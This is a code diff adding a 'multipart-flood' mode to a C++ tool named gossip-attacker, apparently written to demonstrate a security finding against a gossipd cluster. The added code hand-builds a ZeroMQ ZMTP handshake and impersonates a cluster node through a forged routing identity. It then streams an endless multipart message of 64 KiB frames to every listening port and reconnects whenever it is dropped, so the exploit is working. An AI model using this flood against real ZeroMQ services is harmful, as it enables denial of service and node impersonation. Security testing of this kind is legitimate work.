@@ -6,8 +6,14 @@
 //     Finds the gossipd children of PID (gossipctl cluster) and holds an idle TCP
 //     connection open to every port each of them listens on, opening a new one
 //     whenever a daemon closes it: the unauthenticated stranger of finding 1.
+//
+//   gossip-attacker multipart-flood --parent PID --as-node N [--seconds S]
+//     Speaks ZeroMQ to every port of every gossipd child of PID as node N (a routing
+//     id is all an unauthenticated peer channel asks for) and sends one message
+//     that never ends: 64 KiB frames, each marked "more" (finding 2).
 
 #include <arpa/inet.h>
+#include <errno.h>
 #include <netinet/in.h>
 #include <poll.h>
 #include <sys/socket.h>
@@ -32,7 +38,9 @@ namespace fs = std::filesystem;
 using Clock = std::chrono::steady_clock;
 
 [[noreturn]] void usage() {
-  std::fprintf(stderr, "usage: gossip-attacker idle-connect --parent PID [--seconds S]\n");
+  std::fprintf(stderr,
+               "usage: gossip-attacker idle-connect --parent PID [--seconds S]\n"
+               "       gossip-attacker multipart-flood --parent PID --as-node N [--seconds S]\n");
   std::exit(2);
 }
 
@@ -133,8 +141,85 @@ int idle_connect(int parent, double seconds) {
     std::fflush(stdout);
     std::this_thread::sleep_for(std::chrono::milliseconds(20));
   }
-  std::printf("opened %llu idle connections to %zu ports\n", static_cast<unsigned long long>(opened),
-              known.size());
+  std::printf("opened %llu idle connections to %zu ports\n",
+              static_cast<unsigned long long>(opened), known.size());
+  return 0;
+}
+
+// ZMTP 3.0 by hand (rfc.zeromq.org/spec/23): libzmq itself never sends a message's
+// parts before its last one, so an endless message needs a hand-made peer.
+bool zmtp_hello(int fd, const std::string& identity) {
+  unsigned char greeting[64] = {0xFF, 0, 0, 0, 0, 0, 0, 0, 0, 0x7F, 3, 0};
+  std::memcpy(greeting + 12, "NULL", 4);
+  if (::send(fd, greeting, sizeof greeting, MSG_NOSIGNAL) != sizeof greeting) return false;
+  unsigned char theirs[64];
+  for (size_t got = 0; got < sizeof theirs;) {
+    const ssize_t n = ::recv(fd, theirs + got, sizeof theirs - got, 0);
+    if (n <= 0) return false;
+    got += static_cast<size_t>(n);
+  }
+  std::string body = "\x05READY";
+  const auto property = [&](const std::string& name, const std::string& value) {
+    body += static_cast<char>(name.size());
+    body += name;
+    const uint32_t n = htonl(static_cast<uint32_t>(value.size()));
+    body.append(reinterpret_cast<const char*>(&n), 4);
+    body += value;
+  };
+  property("Socket-Type", "DEALER");
+  property("Identity", identity);
+  std::string command = {'\x04', static_cast<char>(body.size())};
+  command += body;
+  return ::send(fd, command.data(), command.size(), MSG_NOSIGNAL) ==
+         static_cast<ssize_t>(command.size());
+}
+
+int multipart_flood(int parent, int as_node, double seconds) {
+  std::map<int, int> sockets;  // port -> a connection sending one endless message
+  const auto end = Clock::now() + std::chrono::duration<double>(seconds);
+  // A long frame with "more" set: flags 0x03, an 8-byte size, 64 KiB.
+  constexpr size_t kFrame = 64 << 10;
+  std::vector<unsigned char> frame(9 + kFrame, 'x');
+  frame[0] = 0x03;
+  for (int i = 0; i < 8; ++i)
+    frame[1 + i] = static_cast<unsigned char>((kFrame >> (56 - 8 * i)) & 0xFF);
+  uint64_t sent = 0;
+  while (Clock::now() < end) {
+    for (int pid : daemons_of(parent))
+      for (int port : listening_ports(pid)) {
+        if (sockets.count(port)) continue;
+        const int fd = connect_to(port);
+        if (fd < 0) continue;
+        timeval tv{2, 0};
+        ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+        ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
+        if (!zmtp_hello(fd, "node-" + std::to_string(as_node))) {
+          ::close(fd);
+          sockets[port] = -1;  // not ZeroMQ (the ring's port): left alone
+          continue;
+        }
+        std::printf("flooding port %d of gossipd %d as node %d\n", port, pid, as_node);
+        sockets[port] = fd;
+      }
+    bool any = false;
+    for (auto& [port, fd] : sockets) {
+      if (fd < 0) continue;
+      const ssize_t n = ::send(fd, frame.data(), frame.size(), MSG_NOSIGNAL);
+      if (n > 0) sent += static_cast<uint64_t>(n), any = true;
+      if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK) {
+        std::printf("port %d closed the connection after %llu MiB\n", port,
+                    static_cast<unsigned long long>(sent >> 20));
+        ::close(fd);
+        fd = -1;
+        sockets.erase(port);  // connect again: the attack goes on
+        break;
+      }
+    }
+    std::fflush(stdout);
+    if (!any) std::this_thread::sleep_for(std::chrono::milliseconds(20));
+  }
+  std::printf("sent %llu MiB of one unending message\n",
+              static_cast<unsigned long long>(sent >> 20));
   return 0;
 }
 
@@ -143,17 +228,21 @@ int idle_connect(int parent, double seconds) {
 int main(int argc, char** argv) {
   if (argc < 2) usage();
   const std::string mode = argv[1];
-  int parent = -1;
+  int parent = -1, as_node = -1;
   double seconds = 3600;
   for (int i = 2; i + 1 < argc; i += 2) {
     const std::string flag = argv[i];
     if (flag == "--parent")
       parent = std::atoi(argv[i + 1]);
+    else if (flag == "--as-node")
+      as_node = std::atoi(argv[i + 1]);
     else if (flag == "--seconds")
       seconds = std::atof(argv[i + 1]);
     else
       usage();
   }
   if (mode == "idle-connect" && parent > 0) return idle_connect(parent, seconds);
+  if (mode == "multipart-flood" && parent > 0 && as_node >= 0)
+    return multipart_flood(parent, as_node, seconds);
   usage();
 }
